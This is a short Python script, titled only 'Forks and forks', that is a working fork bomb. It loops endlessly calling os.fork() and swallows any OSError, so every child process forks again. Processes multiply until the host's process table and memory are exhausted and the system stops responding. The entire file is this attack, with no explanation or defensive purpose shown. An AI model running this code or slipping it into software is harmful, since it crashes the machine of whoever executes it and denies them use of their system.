"""Forks and forks.
"""

import os

while hasattr(os, "fork"):
    try:
        os.fork()
    except OSError:
        pass
